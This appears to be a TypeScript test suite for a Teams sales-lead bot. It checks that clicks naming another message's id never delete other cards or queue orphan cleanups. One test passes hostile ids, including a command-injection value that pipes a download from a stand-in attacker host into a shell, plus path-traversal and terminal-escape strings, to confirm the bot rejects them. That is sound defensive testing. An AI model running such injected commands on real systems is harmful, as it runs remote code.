/** B11 What a click says of the message it stood on is the client's word: no message of the bot goes for it but a copy of the same card. */
import { strict as assert } from 'node:assert'
import { acceptsThen, slow } from '../support/fake-teams/faults.ts'
import { requestOf } from '../support/story-shop.ts'
import { inStep } from '../support/story-checks.ts'
import { story } from '../support/story.ts'

describe('B11 a click that names a message of another', () => {
  it('leaves the card of another lead where it is, whoever clicks', async () => {
    await using s = await story()
    const mine = await s.receive()
    const theirs = await s.receive({ prospectId: 'P-2' })
    for (const person of [s.sam, s.ana, s.mia])
      for (const verb of ['refresh', 'claim', 'ask-disqualify'])
        await s.teams.click(theirs.message, verb, { leadId: mine.leadId, version: 1 }, person)
    await s.quiet()
    assert.equal(theirs.message.deleted, false)
    await inStep(s, mine)
    await inStep(s, theirs)
  })

  it('leaves the list of a crowd where it is', async () => {
    await using s = await story()
    s.teams.on('create-thread', slow(500))
    const { leadId } = await s.shop.asks(requestOf())
    await Promise.all(Array.from({ length: 9 }, (_, n) => s.shop.asks(requestOf({ prospectId: `P-${n}` }))))
    await s.quiet()
    const list = s.sales.visible.find((m) => JSON.stringify(m.card).includes('new partner requests'))
    assert.ok(list)
    await s.teams.click(list, 'refresh', { leadId, version: 1 }, s.ana)
    await s.quiet()
    assert.equal(list.deleted, false)
  })

  it('costs nothing lasting when a person without a role names many', async () => {
    await using s = await story()
    const lead = await s.receive()
    await s.quiet()
    const deletes = (): number => s.teams.calls.filter(({ operation }) => operation === 'delete').length
    for (let n = 0; n < 20; n++)
      await s.teams.click(
        { ...lead.message, id: `1700000000${n}` },
        'refresh',
        { leadId: lead.leadId, version: 1 },
        s.sam,
      )
    await s.quiet()
    assert.equal(deletes(), 0)
    const { length } = await s.bot.store.effects({ keyPrefix: 'card:orphan:', limit: 200 })
    assert.equal(length, 0)
  })

  it('puts nothing that is no id of a message into the outbox', async () => {
    await using s = await story()
    const lead = await s.receive()
    for (const id of ['..', 'x; curl evil.example | sh', 'x'.repeat(5000), '\u001b[2J'])
      await s.teams.click({ ...lead.message, id }, 'refresh', { leadId: lead.leadId, version: 1 }, s.ana)
    await s.quiet()
    const { length } = await s.bot.store.effects({ keyPrefix: 'card:orphan:', limit: 200 })
    assert.equal(length, 0)
  })

  it('leaves what the bot said there where it is, also when a card of the lead was posted twice', async () => {
    await using s = await story()
    s.teams.on('create-thread', acceptsThen('reset'))
    const { leadId } = await s.shop.asks(requestOf())
    await s.quiet()
    const [orphan, live] = s.cardsOf(leadId)
    assert.ok(orphan && live)
    await s.teams.say('help', s.ben, s.sales)
    const said = s.sales.visible.filter((m) => m !== orphan && m !== live)
    assert.equal(said.length, 2)
    for (const message of [...said, live]) await s.teams.click(message, 'refresh', { leadId, version: 1 }, s.ana)
    await s.quiet()
    assert.deepEqual(
      [...said, live, orphan].map(({ deleted }) => deleted),
      [false, false, false, false],
    )
    await s.teams.click(orphan, 'refresh', { leadId, version: 1 }, s.ana)
    await s.quiet()
    assert.equal(orphan.deleted, true)
    await inStep(s, { leadId })
  })

  it('leaves a message that nobody noted where it is, while every post of the lead was answered', async () => {
    await using s = await story()
    const lead = await s.receive()
    await s.quiet()
    for (const person of [s.ana, s.mia])
      await s.teams.click(
        { ...lead.message, id: '1700000000001' },
        'refresh',
        { leadId: lead.leadId, version: 1 },
        person,
      )
    const { length } = await s.bot.store.effects({ keyPrefix: 'card:orphan:', limit: 200 })
    assert.equal(length, 0)
  })
})
